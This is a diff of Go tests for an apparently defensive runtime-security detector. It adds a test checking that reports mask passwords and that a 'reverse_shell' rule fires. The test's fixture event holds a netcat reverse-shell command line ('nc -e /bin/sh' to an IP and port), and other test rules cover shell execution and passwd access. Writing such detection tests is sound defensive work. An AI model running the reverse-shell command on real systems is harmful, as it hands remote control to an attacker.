@@ -159,7 +159,7 @@ func TestRuleLoadErrorExits2(t *testing.T) {
 
 	code, _, stderr = runTool(t, "--no-builtin", "--rules", "testdata/rules.yaml", "--disable", "Nope", "--list")
 	assert.Equal(t, 2, code)
-	assert.Contains(t, stderr, `disabled_rules: rule "Nope": no such rule; known rules: Test shell exec, Test passwd access`)
+	assert.Contains(t, stderr, `disabled_rules: rule "Nope": no such rule or chain; known rules: Test shell exec, Test passwd access`)
 }
 
 func TestList(t *testing.T) {
@@ -192,4 +192,23 @@ func TestUsageErrors(t *testing.T) {
 	assert.Contains(t, stderr, "nope.jsonl")
 	code, _, _ = runTool(t, "--bogus")
 	assert.Equal(t, 1, code)
+}
+
+// Reports show command lines as the collector stores them: secrets masked.
+func TestOutputIsRedacted(t *testing.T) {
+	line := `{"process_exec":{"process":{"exec_id":"ZTE6MQ==","pid":10,"binary":"/usr/bin/nc","arguments":"-e /bin/sh 10.0.0.1 4444 --password=hunter2","pod":{"namespace":"shop","name":"web-0","container":{"id":"containerd://abc","name":"app"}}},"parent":{"exec_id":"ZTE6MA==","pid":9,"binary":"/bin/sh","arguments":"-c run"}},"node_name":"n1","time":"2026-12-07T10:00:00Z"}`
+	f := filepath.Join(t.TempDir(), "secret.jsonl")
+	if err := os.WriteFile(f, []byte(line+"\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	var out, errOut bytes.Buffer
+	if code := run([]string{"--json", f}, &out, &errOut); code != exitOK {
+		t.Fatalf("exit %d: %s", code, errOut.String())
+	}
+	if strings.Contains(out.String(), "hunter2") || !strings.Contains(out.String(), `--password=***`) {
+		t.Errorf("report not masked:\n%s", out.String())
+	}
+	if !strings.Contains(out.String(), "reverse_shell") {
+		t.Errorf("reverse_shell did not fire:\n%s", out.String())
+	}
 }
